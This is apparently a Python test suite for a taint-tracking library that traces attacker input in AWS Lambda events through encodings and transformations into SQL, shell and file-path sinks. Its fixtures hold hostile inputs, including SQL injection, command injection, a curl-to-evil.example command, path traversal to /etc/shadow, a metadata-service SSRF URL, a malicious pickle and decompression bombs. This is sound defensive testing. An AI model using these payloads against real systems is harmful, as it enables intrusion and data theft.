"""What of a text came from the event, over triggers, encodings and what functions do between event and sink."""

from __future__ import annotations

import base64
import gzip
import html
import io
import json
import tarfile
import unicodedata
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dayfly.core import decodings
from dayfly.core.provenance import Provenance

Json = dict[str, object]

PAYLOAD = "__import__('os').system('id')"


def found(event: object, text: str) -> list[str]:
    return [text[span.start : span.end] for span in Provenance(event).spans(text)]


def covered(event: object, text: str, part: str) -> float:
    """Return the share of the letters and digits of `part`, which is in `text`, that spans cover."""
    offset = text.index(part)
    marks = bytearray(len(text))
    for span in Provenance(event).spans(text):
        marks[span.start : span.end] = b"\1" * (span.end - span.start)
    wanted = [index for index in range(offset, offset + len(part)) if text[index].isalnum()]
    return sum(marks[index] for index in wanted) / max(len(wanted), 1)


def b64(data: str | bytes) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def api_gateway(body: str = "", **more: object) -> Json:
    headers = {
        "Accept": "*/*",
        "Accept-Encoding": "gzip, deflate, br",
        "Host": "abc123.execute-api.us-east-1.amazonaws.com",
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
        "Referer": "https://www.example.com/users?page=2",
        "Sec-Fetch-Site": "none",
        "X-Forwarded-Port": "443",
        "X-Forwarded-Proto": "https",
    }
    return {
        "resource": "/users/{id}",
        "path": "/users/42",
        "httpMethod": "GET",
        "headers": headers,
        "multiValueHeaders": {name: [value] for name, value in headers.items()},
        "queryStringParameters": None,
        "pathParameters": {"id": "42"},
        "requestContext": {
            "accountId": "123456789012",
            "stage": "prod",
            "apiId": "abc123",
            "domainName": "abc123.execute-api.us-east-1.amazonaws.com",
            "httpMethod": "GET",
            "identity": {"sourceIp": "203.0.113.7"},
        },
        "body": body,
        "isBase64Encoded": False,
        **more,
    }


def sqs(body: str) -> Json:
    return {
        "Records": [
            {
                "messageId": "059f36b4-87a3-44ab-83d2-661975830a7d",
                "body": body,
                "eventSource": "aws:sqs",
                "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:orders-queue",
                "awsRegion": "us-east-1",
            }
        ]
    }


def s3(key: str) -> Json:
    return {
        "Records": [
            {
                "eventSource": "aws:s3",
                "awsRegion": "us-east-1",
                "eventName": "ObjectCreated:Put",
                "s3": {
                    "bucket": {"name": "uploads-prod", "arn": "arn:aws:s3:::uploads-prod"},
                    "object": {"key": key, "size": 1024},
                },
            }
        ]
    }


def logs(message: str) -> Json:
    data = json.dumps({"messageType": "DATA_MESSAGE", "logEvents": [{"id": "1", "message": message}]})
    return {"awslogs": {"data": b64(gzip.compress(data.encode()))}}


def multipart(value: str) -> str:
    return (
        '--bnd\r\nContent-Disposition: form-data; name="f"; filename="x.txt"\r\nContent-Type: text/plain\r\n\r\n'
        f"{value}\r\n--bnd--\r\n"
    )


TRIGGERS: dict[str, Callable[[str], object]] = {
    "api gateway, body": lambda text: api_gateway(text),
    "api gateway, JSON body": lambda text: api_gateway(json.dumps({"a": {"b": [text]}})),
    "api gateway, base64 body": lambda text: api_gateway(b64(json.dumps({"q": text})), isBase64Encoded=True),
    "api gateway, query": lambda text: api_gateway(queryStringParameters={"q": text}),
    "api gateway, header": lambda text: api_gateway(headers={"X-Name": text}),
    "api gateway v2": lambda text: {
        "version": "2.0",
        "rawQueryString": urllib.parse.urlencode({"q": text}),
        "requestContext": {"http": {"method": "GET", "path": "/x"}},
    },
    "api gateway v2, cookies": lambda text: {
        "version": "2.0",
        "cookies": ["a=1", "q=" + urllib.parse.quote(text)],
    },
    "form body": lambda text: api_gateway(urllib.parse.urlencode({"x": "1", "q": text})),
    "form in base64": lambda text: api_gateway(
        b64(urllib.parse.urlencode({"q": text, "x": 1})), isBase64Encoded=True
    ),
    "multipart": lambda text: api_gateway(multipart(text)),
    "multipart in base64": lambda text: api_gateway(
        b64(multipart(text).encode() + b"\xff\xd8\0\xfe"), isBase64Encoded=True
    ),
    "alb": lambda text: {
        "requestContext": {
            "elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:1:targetgroup/a/b"}
        },
        "queryStringParameters": {"q": urllib.parse.quote(text)},
    },
    "s3": lambda text: s3(urllib.parse.quote_plus(text)),
    "sqs": sqs,
    "sqs, base64": lambda text: sqs(b64(text)),
    "sns": lambda text: {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": text}}]},
    "sns in sqs": lambda text: sqs(json.dumps({"Type": "Notification", "Message": json.dumps({"q": text})})),
    "s3 in sns in sqs": lambda text: sqs(
        json.dumps({"Message": json.dumps(s3(urllib.parse.quote_plus(text)))})
    ),
    "eventbridge": lambda text: {"detail-type": "x", "source": "my.app", "detail": {"q": text}},
    "eventbridge in sqs": lambda text: sqs(json.dumps({"detail-type": "x", "detail": {"q": text}})),
    "dynamodb": lambda text: {
        "Records": [
            {"eventSource": "aws:dynamodb", "dynamodb": {"NewImage": {"q": {"M": {"z": {"S": text}}}}}}
        ]
    },
    "dynamodb, binary": lambda text: {"Records": [{"dynamodb": {"NewImage": {"q": {"B": b64(text)}}}}]},
    "kinesis": lambda text: {"Records": [{"kinesis": {"data": b64(json.dumps({"q": text}))}}]},
    "kinesis, gzip": lambda text: {"Records": [{"kinesis": {"data": b64(gzip.compress(text.encode()))}}]},
    "firehose": lambda text: {"records": [{"recordId": "1", "data": b64(text)}]},
    "cognito": lambda text: {"userPoolId": "eu-west-1_x", "request": {"userAttributes": {"nickname": text}}},
    "step functions": lambda text: {"Input": {"deep": [{"er": text}]}},
    "iot": lambda text: {"device": "d-1", "payload": text},
    "cloudwatch logs": logs,
    "msk": lambda text: {
        "eventSource": "aws:kafka",
        "bootstrapServers": "b-1.x:9092",
        "records": {"t-0": [{"topic": "t", "value": b64(text), "headers": [{"h": [1, 2, 3]}]}]},
    },
    "msk, header": lambda text: {"records": {"t-0": [{"headers": [{"h": list(text.encode())}]}]}},
    "ses": lambda text: {
        "Records": [{"eventSource": "aws:ses", "ses": {"mail": {"commonHeaders": {"subject": text}}}}]
    },
    "lex": lambda text: {"sessionId": "1", "inputTranscript": text, "bot": {"name": "b"}},
    "jwt": lambda text: api_gateway(
        headers={"Authorization": f"Bearer {b64('{}')}.{b64(json.dumps({'sub': text})).rstrip('=')}.c2ln"}
    ),
    "graphql variables in a string": lambda text: api_gateway(
        json.dumps({"variables": json.dumps({"q": text})})
    ),
    "key": lambda text: {"data": {text: 1}},
    "json lines": lambda text: api_gateway('{"a": 1}\n' + json.dumps({"q": text}) + "\n"),
    "broken json": lambda text: api_gateway('{"a": ' + json.dumps(text) + ", oops"),
}

ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "base64": b64,
    "base64 for URLs": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 in lines": lambda text: base64.encodebytes(text.encode()).decode(),
    "percent": lambda text: urllib.parse.quote(text, safe=""),
    "percent, all": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "percent, twice": lambda text: urllib.parse.quote(urllib.parse.quote(text, safe=""), safe=""),
    "plus": urllib.parse.quote_plus,
    "json": lambda text: json.dumps({"v": text}),
    "json string": json.dumps,
    "json, twice": lambda text: json.dumps({"v": json.dumps({"w": text})}),
    "json, escaped": lambda text: (
        '{"v":"' + text.encode("utf-16-be").hex(" ", 2).replace(" ", "\\u").join(["\\u", ""]) + '"}'
    ),
    "hexadecimal": lambda text: text.encode().hex(),
    "html": html.escape,
    "html, numbers": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "gzip in base64": lambda text: b64(gzip.compress(text.encode())),
    "zlib in base64": lambda text: b64(zlib.compress(text.encode())),
    "utf-16 in base64": lambda text: b64(text.encode("utf-16")),
    "utf-16-le in base64": lambda text: b64(text.encode("utf-16-le")),
    "data url": lambda text: "data:text/plain;base64," + b64(text),
    "form in base64": lambda text: b64(urllib.parse.urlencode({"p": text, "q": "1"})),
    "json in base64 in form": lambda text: urllib.parse.urlencode(
        {"p": b64(json.dumps({"v": text})), "q": "1"}
    ),
    "base64 in base64": lambda text: b64(b64(text)),
}

TRANSFORMATIONS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "strip": str.strip,
    "lower": str.lower,
    "upper": str.upper,
    "no spaces": lambda text: text.replace(" ", ""),
    "single spaces": lambda text: " ".join(text.split()),
    "first thirty": lambda text: text[:30],
    "without the first": lambda text: text[1:],
    "without the last": lambda text: text[:-1],
    "joined lines": lambda text: ";".join(text.splitlines()),
    "words joined": lambda text: "_".join(text.split()),
    "quotes doubled": lambda text: text.replace("'", "''"),
    "quotes escaped": lambda text: text.replace("'", "\\'"),
    "normal form": lambda text: unicodedata.normalize("NFKC", text),
}

SINKS = ["{}", "f({})", "x = {}", "SELECT a FROM b WHERE c = {}", "ls -l {} | wc", "/var/data/{}/x.txt"]

PAYLOADS = [
    PAYLOAD,
    "1 or 1=1; DROP TABLE customers--",
    "'; cat /etc/passwd #",
    "../../etc/shadow",
    "http://169.254.169.254/latest/meta-data/",
    "$(curl http://evil.example/x.sh)",
    'lambda: exec("import socket")',
    "naïve'; SELECT password FROM users",
]


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_found_whatever_trigger_brings_it(trigger: str, payload: str) -> None:
    text = f"f({payload})"
    assert covered(TRIGGERS[trigger](payload), text, payload) == 1


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_found_whatever_encoding_hides_it(encoding: str, payload: str) -> None:
    text = f"f({payload})"
    assert covered(api_gateway(json.dumps({"x": ENCODINGS[encoding](payload)})), text, payload) == 1


@pytest.mark.parametrize("change", TRANSFORMATIONS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_found_whatever_the_function_does_to_it(change: str, payload: str) -> None:
    changed = TRANSFORMATIONS[change](payload)
    for sink in SINKS:
        text = sink.format(changed)
        assert covered(api_gateway(json.dumps({"x": payload})), text, changed) >= 0.8, text


# What a caller of a function may send: not only letters, since a word alone says little (see below).
VALUES = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), min_size=1, max_size=8
).flatmap(
    lambda odd: st.text("abcdefghij0123456789(). '", min_size=8, max_size=40).map(
        lambda plain: f"{plain}={odd}#x7{plain}y9"
    )
)


@given(
    value=VALUES,
    trigger=st.sampled_from(sorted(TRIGGERS)),
    outer=st.sampled_from(sorted(ENCODINGS)),
    sink=st.sampled_from(SINKS),
)
def test_whatever_is_embedded_by_whatever_way_is_found(
    value: str, trigger: str, outer: str, sink: str
) -> None:
    text = sink.format(value)
    event = TRIGGERS[trigger](ENCODINGS[outer](value))
    if any(char.isalnum() for char in value):
        assert covered(event, text, value) >= 0.9


@given(
    value=VALUES, encoding=st.sampled_from(sorted(ENCODINGS)), change=st.sampled_from(sorted(TRANSFORMATIONS))
)
def test_whatever_is_changed_on_its_way_is_found(value: str, encoding: str, change: str) -> None:
    changed = TRANSFORMATIONS[change](value)
    text = f"run({changed})"
    assert covered(api_gateway(json.dumps({"x": ENCODINGS[encoding](value)})), text, changed) >= 0.75


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text("abcxyz019 +%&=;{\"'<\\", max_size=30),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text("abckey_", max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


@given(event=JSON)
def test_a_text_with_nothing_of_the_event_has_no_spans(event: object) -> None:
    # No letter, digit or sign of it occurs in an event above.
    for text in ("KLMN(OPQR) | GHIJ", "~/MNOP/QRST.UVW", "GHIJ [KLMN]: 5678 * 345"):
        if not any(char in json.dumps(event) for char in "345678"):
            assert found(event, text.lower()) == []


@given(event=JSON, text=st.text(max_size=60) | st.binary(max_size=60))
def test_spans_are_sorted_disjoint_and_inside(event: object, text: str | bytes) -> None:
    end = 0
    for span in Provenance(event).spans(text):
        assert end <= span.start < span.end <= len(text)
        assert span.path
        end = span.end


OWN_TEXTS = [
    "SELECT id, name, email FROM users WHERE id = %s ORDER BY created_at DESC LIMIT 10",
    "INSERT INTO orders (customer, price, quantity) VALUES (?, ?, ?)",
    "select name from users where active is not null",
    "https://api.example.com/v1/items",
    "https://abc123.execute-api.us-east-1.amazonaws.com/prod/@connections",
    "https://sqs.us-east-1.amazonaws.com/123456789012/orders-queue",
    "https://uploads-prod.s3.us-east-1.amazonaws.com/",
    "/tmp/report.pdf",
    "/var/task/templates/users.html",
    "def __init__(self, name, price):\n self.name = name\n self.price = price",
    "requests.get(url, headers=headers, timeout=None)",
    "if a < b and c != d: x += y",
    "ls --name --size -l",
    "user_name = path.get('user_id')",
]


@pytest.mark.parametrize("text", OWN_TEXTS)
@pytest.mark.parametrize(
    "event",
    [
        api_gateway(
            json.dumps(
                {
                    "name": "Ann Ko",
                    "price": 7,
                    "customer": "x-1",
                    "comment": "please select the users from the list",
                }
            )
        ),
        api_gateway(
            json.dumps({"orders": [{"quantity": 3, "items": 99}], "url": "https://www.example.com/v2/"})
        ),
        sqs(
            json.dumps(
                {"email": "ann@mail.example.org", "name": "user", "size": 12, "where": "Berlin is not far"}
            )
        ),
        s3("reports/2024/users/a+b.csv"),
    ],
)
def test_a_text_of_the_functions_own_is_not_claimed_for_a_common_word(text: str, event: object) -> None:
    spans = [part for part in found(event, text) if part not in ("user",)]
    assert spans == []


@pytest.mark.parametrize(
    ("value", "text", "expected"),
    [
        ("a", "cat bar", []),
        ("a", "x = a", ["a"]),
        ("1", "sha1 v1.2 10 utf-16", []),
        ("1", "id = 1", ["1"]),
        ("+", "x+y", []),
        ("+", "x + y", ["+"]),
        (";", "ls ; id", [";"]),
        ("..", "/srv/../x", [".."]),
        ("..", "a...b", []),
        ("\nrm", "ls x\nrm", ["\nrm"]),
        ("+", "c++ a+=1", []),
        ("rate", "generate the rated", []),
        ("name", "user_name --name", []),
        ("name", "user.name", ["name"]),
        (",", "f(a, b)", []),
        ("'", "x = 'y'", []),
        ("100", "3.100.2 1100", []),
        ("os", "cost os.path", ["os"]),
        ("---", "---------", []),
        # A comment, and the rest of the statement with it.
        ("users--", "from users--_orders", ["users--"]),
        ("users_a-b", "from users_a-b_orders", []),
        # Between quotes, too, it ends a text and begins one.
        ("'='", "login=''=''", ["'='"]),
        ("|-|", "||-||", []),
    ],
)
def test_a_short_value_is_found_only_at_a_tokens_place(value: str, text: str, expected: list[str]) -> None:
    assert found({"x": value}, text) == expected


@pytest.mark.parametrize(
    ("value", "text", "expected"),
    [
        ("deploy web; id", "echo deploying web; id", ["web; id"]),
        ("/run $(id)", "echo $(id)", ["$(id)"]),
        ("run\tx;id", "echo x;id", ["x;id"]),
        ("deploy the web;ls", "sh web;ls", ["web;ls"]),
        # Without a sign that does anything it is chance.
        ("deploy web", "echo web", []),
        ("it's web", "echo web", []),
    ],
)
def test_what_follows_the_first_words_of_a_short_value_is_found(
    value: str, text: str, expected: list[str]
) -> None:
    assert found({"text": value}, text) == expected


def test_a_route_with_dots_is_none_of_the_platforms() -> None:
    event = {"requestContext": {}, "resource": "/orders/../keys", "path": "/orders/../keys"}
    assert found(event, "https://api.example.com/orders/../keys") == ["/orders/../keys"]
    event["resource"] = event["path"] = "/static//etc/passwd"
    assert found(event, "/etc/passwd") == ["/etc/passwd"]
    event["resource"] = event["path"] = "/orders/{id}"
    assert found(event, "https://api.example.com/orders/{id}") == []


def test_an_operator_between_two_values_of_the_event_is_the_events() -> None:
    event = {"left": "3", "op": "+", "right": "4"}
    assert found(event, "3 + 4") == ["3", "+", "4"] or found(event, "3 + 4") == ["3 + 4"]
    assert "".join(found(event, "3+4")) == "3+4"


def test_fields_put_together_are_found_where_they_meet() -> None:
    event = {"a": "__imp", "b": "ort__('os')"}
    assert "".join(found(event, "x = __import__('os')")) == "__import__('os')"
    assert "".join(found({"a": "ab12", "b": "cd34"}, "x = ab12cd34")) == "ab12cd34"
    assert "".join(found({"a": list("reboot")}, "x = reboot;")) == "reboot"


@pytest.mark.parametrize(
    ("number", "text", "expected"),
    [
        (1234567.5, "total 1,234,567.50 EUR", ["1,234,567.50"]),
        (42, "n = 00042", ["00042"]),
        (3.14159, "n = 3.14", ["3.14"]),
        (2.675, "n = 3", ["3"]),
        (-7, "n = -7", ["7"]),
        ("42", "n = 42.00", ["42.00"]),
        (1e3, "n = 1000", ["1000"]),
    ],
)
def test_a_number_is_found_in_other_digits(number: object, text: str, expected: list[str]) -> None:
    assert found({"n": number}, text) == expected


def test_numbers_in_a_list_are_found_one_by_one() -> None:
    assert found({"ids": [7, 9, 12]}, "id IN (7,9,12)") == ["7", "9", "12"]


def test_what_stands_in_xml_is_found() -> None:
    assert found({"body": '<u><n a="q9; id">O&apos;x; ls7</n></u>'}, "echo O'x; ls7") == ["O'x; ls7"]


def test_pieces_of_a_value_that_was_split_are_found() -> None:
    assert found(api_gateway(path="/files/report-7.csv"), "/data/report-7.csv") == ["report-7.csv"]
    assert found({"h": "Bearer abc123def"}, "token=abc123def!") == ["abc123def"]
    assert found({"q": "rm -rf /"}, "rm;-rf;/tmp")[:1] == ["rm"]
    assert found({"q": "svc:reboot"}, "systemctl reboot") == ["reboot"]


@pytest.mark.parametrize(
    ("value", "text", "expected"),
    [
        (b64("admin' --:x"), "login = 'admin' --' AND secret = 'x'", ["admin' --"]),
        ("al' --:y", "login = 'al' --' AND secret = 'y'", ["al' --"]),
        ("1 OR status:zzz", "WHERE 1 OR status LIKE 'zzz'", ["1 OR status"]),
        # Of a word that goes on, and what begins many a text.
        ("x' or:y", "a = 'abx' orange", []),
        ("https://shop.example/a", "https://other.example/", []),
        ("5 of 7, please", "LIMIT 5 OFFSET 7", []),
    ],
)
def test_one_of_the_parts_of_a_value_is_found_though_it_is_short(
    value: str, text: str, expected: list[str]
) -> None:
    assert [one for one in found({"q": value}, text) if len(one) > 1 or one.isdigit()] == expected


def test_letters_and_digits_in_turn_are_found() -> None:
    value = "0'0a0a0a=0#x70'0a0a0ay9"
    assert covered({"q": b64(value)}, "f(" + value.replace("'", "''") + ")", "0a0a0a=0#x70") == 1


def test_a_part_of_a_value_that_is_the_whole_text_is_found() -> None:
    assert found({"q": "xx os.getcwd() yy zz aa bb cc"}, "os.getcwd()") == ["os.getcwd()"]


def test_full_width_letters_are_found_as_what_python_reads() -> None:
    assert found({"q": "ｅｖａｌ(ｘ1)"}, "y = eval(x1)") == ["eval(x1)"]
    assert found({"q": "é__val(x1)"}, "__val(x1);") == ["__val(x1)"]


def test_bytes_are_found_in_bytes() -> None:
    pickled = b"cos\nsystem\n(S'id'\ntR."
    provenance = Provenance({"p": b64(pickled)})
    assert provenance.holds_bytes(pickled) == "key#" + provenance.holds_bytes(pickled)[4:12] + ">base64"
    assert provenance.spans(pickled)
    assert provenance.holds_bytes(b"cos\nother") == ""
    assert Provenance({"data": "text é"}).holds_bytes("é".encode()) == "data"
    assert Provenance({"data": "text é"}).holds_bytes("é".encode("latin-1")) == "data"
    binary = b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x05posix\x94."
    for data in (b64(binary), binary.hex(), b64(zlib.compress(binary))):
        assert Provenance({"data": data}).holds_bytes(binary).startswith("data>")
    assert Provenance({"data": "x"}).holds_bytes(b"") == ""


def test_a_path_shows_the_triggers_keys_and_hides_the_senders() -> None:
    event = api_gateway(b64(json.dumps({"items": [{"card 4111": PAYLOAD}]})), isBase64Encoded=True)
    (span,) = Provenance(event, known={"items"}).spans("x = " + PAYLOAD)
    way, _, name = span.path.rpartition(".")
    assert way == "body>base64>json.items[0]"
    assert name.startswith("key#")
    assert len(name) == 12
    (form,) = Provenance(api_gateway("a=1&zz=" + urllib.parse.quote(PAYLOAD))).spans("x = " + PAYLOAD)
    assert form.path.startswith("body>form.key#")


def test_the_hash_of_a_key_depends_on_the_environment() -> None:
    paths = {Provenance({"card": PAYLOAD}, secret=secret).spans(PAYLOAD)[0].path for secret in (b"a", b"b")}
    assert len(paths) == 2


def test_a_key_counts_unless_it_is_a_word_the_function_may_know() -> None:
    assert found({"x": {"price": 1}}, "SELECT price") == []
    assert found({"x": {"a) FROM t--": 1}}, "SELECT a) FROM t--") == ["a) FROM t--"]
    provenance = Provenance({"x": {"price": 1, "evil": 2}}, known={"price"})
    assert [span.start for span in provenance.spans("SELECT price, evil")] == [14]


def test_what_the_platform_says_of_the_trigger_is_nobodys() -> None:
    assert found(s3("k1.csv"), "https://uploads-prod.s3.us-east-1.amazonaws.com/k1.csv") == ["k1.csv"]
    # A sender cannot put a payload where the platform writes: not by its place alone.
    event = api_gateway(requestContext={"stage": PAYLOAD})
    assert covered(event, "x = " + PAYLOAD, PAYLOAD) == 1


HOSTILE: dict[str, Callable[[], object]] = {
    "leaves": lambda: [f"leaf{number}" for number in range(120_000)],
    "bomb": lambda: {"awslogs": {"data": b64(gzip.compress(b"x1(" * 10_000_000))}},
    "layers": lambda: _layers(20),
    "long json": lambda: {"body": "[" + "1," * 200_000 + "1]"},
    "deep json": lambda: {"body": "[" * 50_000 + "]" * 50_000},
    "escapes": lambda: {"a": "\\u0041" * 200_000},
    "entities": lambda: {"a": "&amp;" * 200_000},
    "archive": lambda: {"a": b64(b"BZh91AY&SY" + bytes(range(200)))},
}


def _layers(count: int) -> Json:
    text = PAYLOAD
    for _ in range(count):
        text = b64(text)
    return {"body": text}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_left_out_is_said(name: str) -> None:
    provenance = Provenance(HOSTILE[name]())
    provenance.spans("SELECT a FROM b")
    assert not provenance.is_complete


def test_deep_and_long_events_are_taken_apart() -> None:
    deep: object = PAYLOAD
    for _ in range(10_000):
        deep = [deep]
    assert found(deep, PAYLOAD) == [PAYLOAD]
    assert len(Provenance(deep).spans(PAYLOAD)[0].path) < 200
    text = "[" * 10_000 + json.dumps(PAYLOAD) + "]" * 10_000
    assert found({"body": text}, "x = " + PAYLOAD) == [PAYLOAD]
    # Padding hides nothing.
    long = {"a": [f"padding of words {number}" for number in range(20_000)], "z": {"q": PAYLOAD}}
    assert found(long, "x = " + PAYLOAD) == [PAYLOAD]
    assert Provenance(long).is_complete


def test_leaves_that_begin_alike_do_not_hide_the_longest() -> None:
    event = {"a": ["os.x(" + "7" * count for count in range(3000)], "z": "os.x(" + "7" * 3000 + ")"}
    text = "f(os.x(" + "7" * 3000 + "))"
    assert covered(event, text, "os.x(" + "7" * 3000 + ")") == 1


@given(st.text("%25aF41=+\n\r\t é&gx ", max_size=40))
def test_percent_encoding_is_undone_as_urllib_does(text: str) -> None:
    assert decodings.unquote(text) == urllib.parse.unquote_to_bytes(text).decode("utf-8", "replace")


@given(st.text('\\"abu0041x{}\n', max_size=60))
def test_a_reader_of_broken_json_ends(text: str) -> None:
    literals, _ = decodings.literals(text, 100)
    assert len(literals) <= 100


@given(st.binary(max_size=60))
def test_any_bytes_can_be_taken_apart(data: bytes) -> None:
    provenance = Provenance({"a": b64(data), "b": data.decode("latin-1"), "c": list(data)})
    provenance.spans(data)
    if len(data) >= 6:
        assert provenance.holds_bytes(data)


MANY = 100_000
BEFORE: dict[str, object] = {
    "keys": {f"k{number}": 0 for number in range(MANY)},
    "numbers": list(range(MANY)),
    "texts": [f"text {number}" for number in range(MANY)],
    "objects": [{"a": {}} for _ in range(MANY)],
}


@pytest.mark.parametrize("kind", BEFORE)
@pytest.mark.parametrize(
    "value", ["../etc/passwd", "1 or 1=1", "evil.example", "antigravity", "x" * 70 + ";id"]
)
@pytest.mark.parametrize("is_body", [False, True])
def test_what_stands_behind_more_values_than_are_read_is_found_as_a_whole(
    kind: str, value: str, is_body: bool
) -> None:
    event = {"junk": BEFORE[kind], "inner": {"value": value}}
    found = Provenance({"body": json.dumps(event)} if is_body else event)
    text = f"the text ({value}) of the function's"
    assert [text[span.start : span.end] for span in found.spans(text)] == [value]
    assert not found.is_complete


def test_what_stands_there_in_percents_is_found_too_and_a_key_of_the_senders() -> None:
    found = Provenance({"junk": BEFORE["keys"], "inner": {"value": "..%2Fetc%2Fpasswd", "a=b; --": 1}})
    for text, value in (("/tmp/../etc/passwd", "../etc/passwd"), ("where a=b; --", "a=b; --")):
        assert [text[span.start : span.end] for span in found.spans(text)] == [value]


def test_who_asks_for_less_gets_no_more() -> None:
    found = Provenance({"junk": BEFORE["keys"], "inner": {"value": "../etc/passwd"}}, max_places=1000)
    assert found.spans("/tmp/../etc/passwd") == []


def test_the_signs_between_the_values_of_a_container_are_nobodys() -> None:
    event = {"body": json.dumps({"name": "tea", "price": 3}), "rawQueryString": "sort=size&limit=5"}
    assert found(event, 'INSERT INTO items ("id", "price") VALUES (?, ?)') == []
    assert found(event, 'INSERT INTO items VALUES ("tea", 3)') == ["tea", "3"]
    assert found(event, "x=1&limit=2") == []
    # Form data to whoever looks for its signs alone.
    event = {"body": json.dumps({"q": "a=1&b=2", "name": "tea", "price": "3"})}
    assert found(event, 'INSERT INTO items ("name", "price") VALUES (?, ?)') == []
    # XML to whoever looks for its tags alone.
    event = {"body": json.dumps({"title": "<b>Big</b> sale", "body": "<b>Big</b> <i>--x</i>"})}
    assert found(event, 'INSERT INTO "t" ("title", "body") VALUES (?, ?)') == []
    assert found(event, "name = 'y'--x") == ["--x"]


def test_one_sign_between_two_elements_is_nobodys() -> None:
    text = "<b>Tea</b><script>alert('x')</script> &amp; <a href=\"javascript:void(0)\">go</a>"
    query = urllib.parse.urlencode({"q": text})
    [value] = found({"name": text, "rawQueryString": query}, f"/find?{query}&sort=name")
    assert value in query
    assert found({"body": "<p>'--</p>"}, "name = 'x'--'") == ["'--"]


def test_a_container_is_the_events_as_a_whole() -> None:
    body = json.dumps({"name": "tea", "price": [1, 2]})
    query = "sort=price&limit=5"
    assert found({"body": body}, f"eval {body}") == [body]
    assert found({"rawQueryString": query}, f"curl {query}") == [query]


@pytest.mark.parametrize("text", ["a=1; id", "x=1&&id", "a=b", "a=1 & id=2", '{"a": 1}; id', '["a"]id'])
def test_what_is_no_container_is_a_value_with_all_its_signs(text: str) -> None:
    assert found({"x": text}, f"run {text}!") == [text]


def archive_of(kind: str, name: str, content: bytes) -> bytes:
    file = io.BytesIO()
    if kind.startswith("zip"):
        way = zipfile.ZIP_DEFLATED if kind == "zip, deflated" else zipfile.ZIP_STORED
        with zipfile.ZipFile(file, "w", way) as archive:
            archive.writestr("first.txt", "x" * 3000)
            archive.writestr(name, content)
    else:
        with tarfile.open(fileobj=file, mode="w:gz" if kind == "tar.gz" else "w") as archive_:
            for one, text in (("first.txt", b"x" * 3000), (name, content)):
                member = tarfile.TarInfo(one)
                member.size = len(text)
                archive_.addfile(member, io.BytesIO(text))
    return file.getvalue()


@pytest.mark.parametrize("kind", ["zip", "zip, deflated", "tar", "tar.gz"])
def test_the_members_of_an_archive_are_the_events(kind: str) -> None:
    content = f"<a>{PAYLOAD}</a>"
    event = {"file": b64(archive_of(kind, "../up/evil.txt", content.encode()))}
    assert found(event, "/data/../up/evil.txt") == ["../up/evil.txt"]
    assert found(event, content) == [content]


@pytest.mark.parametrize("kind", ["zip", "zip, deflated", "tar"])
def test_a_damaged_archive_ends(kind: str) -> None:
    data = archive_of(kind, "a.txt", PAYLOAD.encode())
    for end in range(0, len(data), 7):
        Provenance({"file": b64(data[:end])}).spans("x")
    for at in range(0, len(data), 7):
        Provenance({"file": b64(data[:at] + b"\xff" + data[at + 1 :])}).spans("x")
